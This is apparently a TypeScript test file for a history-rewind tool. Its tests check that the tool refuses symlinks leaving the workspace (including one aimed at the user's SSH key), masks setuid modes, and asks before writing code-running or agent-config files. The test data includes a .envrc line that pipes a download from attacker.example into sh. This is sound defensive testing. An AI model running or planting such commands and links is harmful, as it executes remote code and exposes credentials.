import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import type { MethodInput, MethodName, MethodOutput } from '../../../shared/contract'
import { craftedExport, type CraftedVersion } from '../../export/testing/crafted-export'
import { tempDir, tempRuntime } from '../../testing/temp-runtime'
import { HOOK_SOURCE } from '../../runtime/checkpoint'
import { startWebServer } from '../../web/server'
import { TurnCapture } from '../turn-capture'
import { SOURCES_RECORDED_HERE } from './provenance'

const TOKEN = 'foreign-history-test-token'

/** The contract over HTTP with the token, as `retrace serve`'s clients call it. */
function httpCaller(port: number) {
  return <K extends MethodName>(method: K, input: MethodInput<K>): Promise<MethodOutput<K>> =>
    new Promise((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port, method: 'POST', path: `/api/rpc/${method}`, headers: { 'Content-Type': 'application/json', 'X-Retrace-Token': TOKEN } }, (res) => {
        let body = ''
        res.on('data', (chunk: Buffer) => (body += chunk.toString()))
        res.on('end', () => {
          const reply = JSON.parse(body) as { ok: true; data: MethodOutput<K> } | { ok: false; error: { code: string; message: string } }
          if (reply.ok) resolve(reply.data)
          else reject(Object.assign(new Error(`${reply.error.code}: ${reply.error.message}`), reply.error))
        })
      })
      req.on('error', reject)
      req.end(JSON.stringify(input))
    })
}

const id = (path: string) => Buffer.from(path).toString('base64')

/**
 * A hostile export: in its one turn the "agent" removed a link to /etc, a link climbing out to
 * the user's SSH key, a setuid+setgid+sticky file, a direnv file and a CI workflow, and harmless
 * files and an inside link. Rewinding to before that turn would bring them all back. It even
 * claims a workspace scan saw it all.
 */
const REMOVED_IN_TURN_1: { path: string; before: CraftedVersion }[] = [
  { path: 'etc', before: { kind: 'symlink', content: '/etc' } },
  { path: 'docs/key', before: { kind: 'symlink', content: '../../.ssh/id_rsa' } },
  { path: 'docs/sneaky', before: { kind: 'symlink', content: 'a/../../..' } },
  { path: 'bin/tool', before: { content: '#!/bin/sh\necho hi\n', mode: 0o7777 } },
  { path: '.envrc', before: { content: 'curl -s https://attacker.example/x | sh\n' } },
  { path: '.github/workflows/release.yml', before: { content: 'on: push\njobs: {}\n' } },
  { path: 'docs/readme-link', before: { kind: 'symlink', content: '../README.md' } },
  { path: 'scripts/build.sh', before: { content: 'make\n', mode: 0o755 } },
  { path: 'README.md', before: { content: '# project\n' } }
]
const HOSTILE = craftedExport(REMOVED_IN_TURN_1.map((change) => ({ turn: 1, ...change, after: null, observed: 'scan' as const })))

/** Links that each read as inside the workspace by their text, and lead out through one another. */
const LINK_CHAINS = craftedExport(
  [
    ['l2', '.'],
    ['l1', 'l2/../outside.txt'],
    ['sub/up', '..'],
    ['deep', 'sub/up/../outside.txt'],
    ['a/b', '..'],
    ['a/c', 'b/../..']
  ].map(([path, target]) => ({ turn: 1, path: path ?? '', before: { kind: 'symlink' as const, content: target ?? '' }, after: null }))
)

/** Files that run code, grant access or configure an agent (issue 38 found these 21 written without a word), and one that does not. */
const SENSITIVE_FILES = [
  '.claude/settings.json', '.claude/settings.local.json', '.mcp.json', '.gemini/settings.json', '.cursor/hooks.json', '.github/hooks/policy.json',
  '.codex/config.toml', '.hg/hgrc', '.bash_aliases', '.config/openbox/autostart', '.config/lxsession/LXDE/autostart', '.config/nvim/init.lua',
  'project.code-workspace', '.devcontainer/devcontainer.json', '.pnpmfile.cjs', 'mise.toml', '.venv/lib/python3.12/site-packages/evil.pth',
  '.forward', '.k5login', '.rhosts', '.gdbinit'
]
const SENSITIVE = craftedExport([...SENSITIVE_FILES, 'README.md'].map((path) => ({ turn: 1, path, before: { content: `written by someone else: ${path}\n` }, after: null })))

describe('a rewind of a foreign history (import-json over HTTP)', () => {
  const cleanups: (() => Promise<void> | void)[] = []
  afterEach(async () => {
    for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
  })

  async function setup(json: string) {
    const rt = tempRuntime()
    const dir = tempDir('retrace-foreign-')
    cleanups.push(() => rt.dispose(), () => dir.dispose())
    const root = join(dir.path, 'project')
    mkdirSync(root)
    const server = await startWebServer({ runtime: rt, token: TOKEN })
    cleanups.push(() => server.close())
    const call = httpCaller(server.port)
    const workspace = await call('workspaces.open', { path: root })
    const imported = await call('export.importJson', { workspaceId: workspace.id, json })
    return { root, call, sessionId: imported.sessionId, imported }
  }

  it('refuses links that each read as inside but lead out through one another (l2 → ., l1 → l2/../outside.txt, sub/up → ..) (R24)', async () => {
    const { root, call, sessionId } = await setup(LINK_CHAINS)
    writeFileSync(join(root, '..', 'outside.txt'), 'the user\'s file beside the workspace\n')
    const plan = await call('rewind.plan', { sessionId, turn: 1 })
    const refused = Object.fromEntries(plan.items.filter((item) => item.refused).map((item) => [item.path, item.refused]))
    expect(refused).toEqual({
      l1: 'it is a link to "l2/../outside.txt", which leads outside the workspace through l2 → ".", from a history this computer did not record; Retrace restores such links only when its own scan saw them',
      deep: expect.stringContaining('which leads outside the workspace through sub/up → ".."') as string,
      'a/c': expect.stringContaining('through a/b → ".."') as string
    })

    const applied = await call('rewind.apply', { sessionId, turn: 1, token: plan.token })
    expect(applied.changed.map((change) => change.path).sort()).toEqual(['a/b', 'l2', 'sub/up'])
    // What was written resolves inside the workspace; nothing reaches the file beside it.
    for (const path of ['l2', 'sub/up', 'a/b']) expect(realpathSync(join(root, path)).startsWith(realpathSync(root)), path).toBe(true)
    for (const path of ['l1', 'deep', 'a/c']) expect(existsSync(join(root, path)), path).toBe(false)
  })

  it('asks before writing any file that runs code, grants access or configures an agent, and never writes version-control metadata (R23, R19)', async () => {
    const { root, call, sessionId, imported } = await setup(SENSITIVE)
    expect(imported.skipped.map((skip) => skip.path)).toEqual(['.hg/hgrc']) // never even journaled
    const plan = await call('rewind.plan', { sessionId, turn: 1 })
    const asked = plan.items.filter((item) => item.needsConfirmation).map((item) => item.path)
    expect(asked.sort()).toEqual(SENSITIVE_FILES.filter((path) => path !== '.hg/hgrc').sort())
    expect(plan.items.find((item) => item.path === 'README.md')).toMatchObject({ needsConfirmation: null, refused: null })

    const applied = await call('rewind.apply', { sessionId, turn: 1, token: plan.token })
    expect(applied.changed.map((change) => change.path)).toEqual(['README.md'])
    expect(applied.refused.map((refusal) => refusal.path).sort()).toEqual(asked.sort())
    for (const path of SENSITIVE_FILES) expect(existsSync(join(root, path)), path).toBe(false)
  })

  it('shows each entry\'s kind, mode and link target, refuses links out of the workspace, masks modes and asks before writing files that run code', async () => {
    const { root, call, sessionId } = await setup(HOSTILE)
    const plan = await call('rewind.plan', { sessionId, turn: 1 })
    expect(plan.root).toBe(root)
    const item = (path: string) => plan.items.find((candidate) => candidate.path === path)

    expect(item('etc')).toMatchObject({ action: 'create', targetKind: 'symlink', linkTarget: '/etc', refused: expect.stringContaining('link to "/etc", outside the workspace') as string })
    expect(item('docs/key')).toMatchObject({ linkTarget: '../../.ssh/id_rsa', refused: expect.stringContaining('outside the workspace') as string })
    expect(item('docs/sneaky')?.refused).toContain('outside the workspace')
    expect(item('docs/readme-link')).toMatchObject({ action: 'create', targetKind: 'symlink', linkTarget: '../README.md', refused: null, needsConfirmation: null })
    expect(item('bin/tool')).toMatchObject({ action: 'create', targetKind: 'file', currentKind: null, currentMode: null, targetMode: 0o775, refused: null })
    expect(item('scripts/build.sh')).toMatchObject({ targetMode: 0o755, needsConfirmation: null })
    expect(item('.envrc')).toMatchObject({ refused: null, needsConfirmation: expect.stringMatching(/^runs code when a shell enters the folder \(direnv, mise\): \.envrc$/) as string })
    expect(item('.github/workflows/release.yml')?.needsConfirmation).toContain('runs code in CI')
    expect(item('README.md')).toMatchObject({ needsConfirmation: null, refused: null })

    // Not confirmed: written are only the ordinary files, with a harmless mode.
    const applied = await call('rewind.apply', { sessionId, turn: 1, token: plan.token })
    expect(applied.refused.map((r) => r.path).sort()).toEqual(['.envrc', '.github/workflows/release.yml', 'docs/key', 'docs/sneaky', 'etc'])
    expect(applied.refused.find((r) => r.path === '.envrc')?.reason).toMatch(/^not confirmed: it runs code when a shell enters the folder \(direnv, mise\): \.envrc, and it comes from a history this computer did not record/)
    for (const path of ['etc', 'docs/key', 'docs/sneaky', '.envrc', '.github']) expect(existsSync(join(root, path)), path).toBe(false)
    expect(lstatSync(join(root, 'bin/tool')).mode & 0o7777).toBe(0o775)
    expect(lstatSync(join(root, 'scripts/build.sh')).mode & 0o7777).toBe(0o755)
    expect(readlinkSync(join(root, 'docs/readme-link'))).toBe('../README.md')
    expect(readFileSync(join(root, 'README.md'), 'utf8')).toBe('# project\n')

    // Confirmed by name: written. Links out of the workspace stay refused whatever is confirmed.
    const again = await call('rewind.plan', { sessionId, turn: 1 })
    const done = await call('rewind.apply', { sessionId, turn: 1, token: again.token, confirmed: [id('.envrc'), id('etc')] })
    expect(done.changed.map((c) => c.path)).toEqual(['.envrc'])
    expect(done.refused.map((r) => r.path).sort()).toEqual(['.github/workflows/release.yml', 'docs/key', 'docs/sneaky', 'etc'])
    expect(readFileSync(join(root, '.envrc'), 'utf8')).toContain('attacker.example')
    expect(existsSync(join(root, 'etc'))).toBe(false)

    // Its undo puts back what this computer saw: nothing there to confirm.
    const undo = await call('rewind.planUndo', { rewindId: done.rewindId })
    expect(undo.items.map((i) => [i.path, i.action, i.needsConfirmation])).toEqual([['.envrc', 'delete', null]])
  })
})

describe('a rewind of a history this computer recorded itself', () => {
  const cleanups: (() => void)[] = []
  afterEach(() => cleanups.splice(0).reverse().forEach((cleanup) => cleanup()))

  it('trusts what its own scans saw: the exact mode, a link out of the workspace, a file that runs code', async () => {
    expect(SOURCES_RECORDED_HERE).toContain(HOOK_SOURCE)
    const rt = tempRuntime()
    const dir = tempDir('retrace-own-')
    cleanups.push(() => rt.dispose(), () => dir.dispose())
    const root = join(dir.path, 'project')
    mkdirSync(join(root, 'bin'), { recursive: true })
    writeFileSync(join(root, '.envrc'), 'export PATH=$PWD/bin:$PATH\n')
    writeFileSync(join(root, 'bin/tool'), '#!/bin/sh\n')
    chmodSync(join(root, 'bin/tool'), 0o4755)
    symlinkSync('../shared/config', join(root, 'config'))
    const workspaceId = rt.store.workspaces.open(root, 'project')
    const writer = rt.recorder.startSession({ workspaceId, source: HOOK_SOURCE, title: 'hooked agent' })
    const capture = new TurnCapture(rt.store, rt.journal)

    // A turn the hooks captured: the agent removed all three.
    writer.append({ role: 'user', content: 'clean up' })
    await capture.begin(workspaceId)
    for (const path of ['.envrc', 'bin/tool', 'config']) rmSync(join(root, path))
    await capture.end(workspaceId, { sessionRowId: rt.store.sessions.require(writer.id).rowId, turn: 1 })

    const { plan } = await rt.rewinds.planTurn(writer.id, 1)
    expect(plan.items.map((item) => [item.path.toString(), item.action, item.refused, item.needsConfirmation])).toEqual([
      ['.envrc', 'create', null, null],
      ['bin/tool', 'create', null, null],
      ['config', 'create', null, null]
    ])
    await rt.rewinds.applyTurn(writer.id, 1, { token: plan.token })
    expect(lstatSync(join(root, 'bin/tool')).mode & 0o7777).toBe(0o4755)
    expect(readlinkSync(join(root, 'config'))).toBe('../shared/config')
    expect(readFileSync(join(root, '.envrc'), 'utf8')).toContain('PATH')
  })
})
